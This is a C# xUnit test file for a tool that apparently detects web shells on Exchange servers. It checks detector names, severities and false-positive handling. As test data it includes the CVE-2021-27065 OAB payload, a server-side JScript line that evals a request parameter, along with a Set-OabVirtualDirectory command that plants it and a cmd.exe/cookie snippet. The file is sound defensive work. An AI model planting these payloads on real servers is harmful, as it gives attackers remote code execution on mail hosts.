using System.Text;
using Exhunt.Detection;
using Exhunt.Detection.Content;
using Exhunt.Evidence;
using Exhunt.Findings;
using Exhunt.Tests.Files;
using Exhunt.Tests.Support;
using Xunit.Abstractions;

namespace Exhunt.Tests.Content;

public class ContentJudgeTests(ITestOutputHelper output)
{
    private const string OwaAuth = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/";

    private static Severity Top(string relativePath, string text) => Top(relativePath, Encoding.UTF8.GetBytes(text));

    private static Severity Top(string relativePath, byte[] bytes)
    {
        var hits = FileRuleHarness.Run(Fixture.File(relativePath, bytes)).Where(f => f.Rule.Id.StartsWith("content-", StringComparison.Ordinal)).ToList();
        return hits.Count == 0 ? Severity.Info : hits.Max(f => f.Severity);
    }

    [Fact]
    public void Every_shell_fixture_is_medium_or_above_in_a_plain_folder()
    {
        var missed = new List<string>();
        foreach (var (name, text) in ShellFixtures.Pages)
        {
            var top = Top("suspicious/" + name, text);
            output.WriteLine($"{top.ToWire(),-8} {name}");
            if (top < Severity.Medium) missed.Add(name);
        }
        output.WriteLine($"shells flagged medium+: {ShellFixtures.Pages.Length - missed.Count}/{ShellFixtures.Pages.Length}");
        Assert.Empty(missed);
    }

    [Fact]
    public void No_benign_fixture_is_medium_or_above_even_in_owa_auth()
    {
        var flagged = new List<string>();
        foreach (var (name, text) in BenignFixtures.Pages)
        foreach (var place in new[] { "site/", OwaAuth })
        {
            var top = Top(place + name, text);
            output.WriteLine($"{top.ToWire(),-8} {place}{name}");
            if (top >= Severity.Medium) flagged.Add(place + name);
        }
        output.WriteLine($"benign flagged medium+: {flagged.Count}/{BenignFixtures.Pages.Length * 2}");
        Assert.Empty(flagged);
    }

    [Theory]
    [InlineData("chopper-jscript.aspx", "request→eval")]
    [InlineData("cmd-controls.aspx", "request→command")]
    [InlineData("helper.ashx", "request→command")]
    [InlineData("service.asmx", "request→command")]
    [InlineData("godzilla-like.aspx", "encrypted-loader")]
    [InlineData("behinder-like.aspx", "encrypted-loader")]
    [InlineData("xor-loader.ashx", "encrypted-loader")]
    [InlineData("tunnel.aspx", "tunnel")]
    [InlineData("chopper-csharp.aspx", "request→code-load")]
    [InlineData("wscript.asp", "request→command")]
    [InlineData("stdin.ashx", "request→command")]
    public void Decisive_detector_is_named_and_the_snippet_quoted(string name, string detector)
    {
        var text = ShellFixtures.Pages.Single(p => p.Name == name).Text;
        var hit = Assert.Single(FileRuleHarness.Run(Fixture.File(OwaAuth + name, text)), f => f.Rule.Id == "content-webshell");
        Assert.Equal(Severity.Critical, hit.Severity);
        Assert.Contains(detector, hit.Details!["detectors"]);
        Assert.False(string.IsNullOrEmpty(hit.Evidence));
        Assert.True(hit.Evidence!.Length <= Finding.MaxEvidenceChars);
        Assert.Equal("/owa/auth/" + name, hit.Details["url"]);
        Assert.Equal(64, hit.Details["sha256"].Length);
    }

    [Fact]
    public void Keywords_in_html_text_and_client_script_are_not_server_sinks()
    {
        var page = "<html><body><p>Process.Start(Request[\"c\"]) and eval(Request.Item[\"x\"]) are examples.</p>"
            + "<script>eval(location.hash.substr(1)); new ActiveXObject('WScript.Shell').Run('cmd.exe /c ' + document.cookie);</script></body></html>";
        Assert.Equal(Severity.Info, Top(OwaAuth + "help.aspx", page));
    }

    [Fact]
    public void Oab_dump_with_script_in_external_url_is_critical()
    {
        var dump = "Name                            : OAB (Default Web Site)\r\nOfflineAddressBooks             : \\Default Offline Address Book\r\n"
            + "InternalUrl                     : https://mail.contoso.com/OAB\r\n"
            + "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>\r\n"
            + "InternalAuthenticationMethods   : {WindowsIntegrated}\r\nExtendedProtectionTokenChecking : None\r\n";
        var findings = FileRuleHarness.Run(Fixture.File("C/inetpub/wwwroot/aspnet_client/system_web/a1b2.aspx", dump));
        var hit = Assert.Single(findings, f => f.Rule.Id == "content-oab-dump-script");
        Assert.Contains("ExternalUrl", hit.Evidence);
    }

    [Theory]
    [InlineData("notes/exchange-incident-writeup.md")]
    [InlineData("C/Users/admin/Desktop/oab-dump.txt")]
    [InlineData("tools/payload.bin")]
    public void Oab_dump_in_a_file_no_server_runs_is_suspicious_not_proof(string relativePath)
    {
        // A write-up or a staged copy quoting the CVE-2021-27065 payload: not a page type and outside every web root.
        var dump = "Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>'\r\n";
        var findings = FileRuleHarness.Run(Fixture.File(relativePath, dump)).Where(f => f.Rule.Id.StartsWith("content-", StringComparison.Ordinal)).ToList();
        var hit = Assert.Single(findings);
        Assert.Equal(WebShellContentRule.Unserved.Id, hit.Rule.Id);
        Assert.Equal(Proves.Weak, hit.Rule.Implies);
        Assert.Null(hit.Rule.WithExploitation);
        Assert.Empty(hit.Rule.Cves);
        Assert.Equal(Severity.Medium, hit.Severity);
        Assert.Contains("content-oab-dump-script", hit.Details["not_served"]);
    }

    [Theory]
    [InlineData("C/inetpub/wwwroot/aspnet_client/notes.txt")]
    [InlineData("C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/x.log")]
    [InlineData("collection/a1b2.aspx")]
    public void Oab_dump_a_server_could_run_stays_proof(string relativePath)
    {
        var dump = "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>\r\n";
        var findings = FileRuleHarness.Run(Fixture.File(relativePath, dump));
        var hit = Assert.Single(findings, f => f.Rule.Id.StartsWith("content-", StringComparison.Ordinal));
        Assert.Equal(WebShellContentRule.OabDump.Id, hit.Rule.Id);
        Assert.Equal(Proves.Compromise, hit.Rule.Implies);
    }

    [Fact]
    public void Shell_code_in_a_non_page_outside_web_roots_is_capped_at_medium_and_weak()
    {
        foreach (var (name, text) in ShellFixtures.Pages)
        {
            var hits = FileRuleHarness.Run(Fixture.File("suspicious/" + Path.ChangeExtension(name, ".dat"), text))
                .Where(f => f.Rule.Id.StartsWith("content-", StringComparison.Ordinal)).ToList();
            foreach (var hit in hits)
            {
                Assert.True(hit.Rule.Implies <= Proves.Weak, $"{name}: {hit.Rule.Id} proves {hit.Rule.Implies}");
                Assert.True(hit.Severity <= Severity.Medium, $"{name}: {hit.Severity}");
            }
        }
    }

    [Fact]
    public void Pst_saved_as_aspx_carrying_a_page_is_judged_by_its_payload()
    {
        var bytes = new List<byte>();
        bytes.AddRange("!BDN"u8.ToArray());
        bytes.AddRange(Enumerable.Range(0, 3000).Select(i => (byte)(i * 7 % 251)));
        bytes.AddRange(Encoding.ASCII.GetBytes("<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"exec_code\"],\"unsafe\");}</script>"));
        bytes.AddRange(Enumerable.Range(0, 9000).Select(i => (byte)(i * 13 % 251)));
        var findings = FileRuleHarness.Run(Fixture.File(OwaAuth + "luifdecggoqmansn.aspx", bytes.ToArray()));
        var hit = Assert.Single(findings, f => f.Rule.Id == "content-webshell");
        Assert.Equal(Severity.Critical, hit.Severity);
        Assert.Contains("page-in-pst", hit.Details!["detectors"]);
        Assert.Contains(findings, f => f.Rule.Id == "file-pst-as-page");
    }

    [Fact]
    public void Hostile_input_does_not_hang_or_throw()
    {
        var junk = new StringBuilder("<%");
        for (var i = 0; i < 200_000; i++) junk.Append(i % 3 == 0 ? "\"a\"+" : i % 3 == 1 ? "Chr(1" : "<%%>'");
        var clock = System.Diagnostics.Stopwatch.StartNew();
        _ = Top("x/junk.aspx", junk.ToString());
        _ = Top("x/rnd.aspx", Enumerable.Range(0, 1 << 20).Select(i => (byte)(i * 31 ^ i >> 3)).ToArray());
        output.WriteLine($"hostile pages judged in {clock.ElapsedMilliseconds} ms");
    }
}
